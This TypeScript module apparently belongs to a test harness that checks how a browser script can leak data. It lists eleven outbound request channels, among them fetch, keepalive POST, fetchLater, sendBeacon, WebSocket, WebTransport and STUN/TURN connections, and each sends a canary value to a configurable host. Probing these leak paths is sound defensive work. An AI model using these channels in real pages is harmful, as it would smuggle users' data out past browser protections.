/** Channels in which the script asks for an address itself. */
import type { Channel } from "./channel.ts";

export const requestChannels = [
  {
    id: "fetch",
    family: "request",
    short: true,
    run: ({ http, canary }) => fetch(`${http}/x?${canary}`),
  },
  {
    id: "fetch-no-cors",
    family: "request",
    run: ({ http, canary }) => fetch(`${http}/x?${canary}`, { mode: "no-cors" }),
  },
  {
    id: "fetch-keepalive",
    family: "request",
    run: ({ http, canary }) =>
      fetch(`${http}/x`, { method: "POST", body: canary, mode: "no-cors", keepalive: true }),
  },
  {
    id: "fetch-later",
    family: "request",
    run: ({ https, canary }) => void fetchLater(`${https}/x?${canary}`, { activateAfter: 0 }),
  },
  {
    id: "xhr",
    family: "request",
    run: ({ http, canary }) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${http}/x?${canary}`);
      request.send();
    },
  },
  {
    id: "event-source",
    family: "request",
    run: ({ http, canary }) => void attack.kept.push(new EventSource(`${http}/x?${canary}`)),
  },
  {
    id: "beacon",
    family: "request",
    run: ({ http, canary }) => navigator.sendBeacon(`${http}/x`, canary),
  },
  {
    id: "web-socket",
    family: "request",
    short: true,
    run: ({ webSocket, canary }) => void attack.kept.push(new WebSocket(`${webSocket}/x?${canary}`)),
  },
  {
    id: "web-transport",
    family: "request",
    run: ({ https, canary }) => {
      const transport = new WebTransport(`${https}/x?${canary}`);
      attack.kept.push(transport);
      return transport.ready;
    },
  },
  {
    id: "stun",
    family: "request",
    short: true,
    run: async ({ relay }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${relay}` }] });
      attack.kept.push(connection);
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  {
    id: "turn",
    family: "request",
    run: async ({ relay, canary }) => {
      const server = { urls: `turn:${relay}?transport=tcp`, username: canary, credential: canary };
      const connection = new RTCPeerConnection({ iceServers: [server] });
      attack.kept.push(connection);
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
] as const satisfies readonly Channel[];
